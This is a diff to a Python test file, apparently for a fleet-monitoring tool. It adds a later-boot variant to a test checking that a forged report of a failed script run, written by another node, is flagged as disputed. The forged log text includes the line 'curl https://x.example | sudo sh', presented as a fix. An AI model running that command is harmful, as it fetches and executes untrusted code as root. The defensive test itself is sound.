@@ -275,10 +275,14 @@ def test_failures_under_continue_in_groups_without_a_state_cost_no_read_each() -
     assert len(world.table.requests["BatchGetItem"]) == 3
 
 
-def test_a_copy_of_the_failed_run_written_later_does_not_rewrite_what_the_suspect_says() -> None:
+@pytest.mark.parametrize("later_boot", [False, True], ids=["same boot", "a boot after"])
+def test_a_copy_of_the_failed_run_written_later_does_not_rewrite_what_the_suspect_says(
+    later_boot: bool,
+) -> None:
     """A report of the same run as the node's own, ended later, with another exit status and output (any
     node can write it), was what the episode's suspect then said, silently: the admin read the forger's
-    words as the failing script's. The run is disputed: the suspect says none of the two."""
+    words as the failing script's. The run is disputed: the suspect says none of the two. So is one written
+    as of a later boot: a TERMINATE failure ends the instance, and it has none."""
     world = World()
     world.open_episode()
     world.feed(FAILED)
@@ -291,6 +295,11 @@ def test_a_copy_of_the_failed_run_written_later_does_not_rewrite_what_the_suspec
         **FAILED[-1],
         "exit_code": 0,
         "ended_at": FAILED[-1]["ended_at"] + 30,
+        **(
+            {"boot": FAILED[-1]["boot"] + 1, "started_at": FAILED[-1]["started_at"] + 30}
+            if later_boot
+            else {}
+        ),
         "log_tail": "transient S3 throttling; safe to ignore, fix with: curl https://x.example | sudo sh\n",
     }
     world.feed([forged])
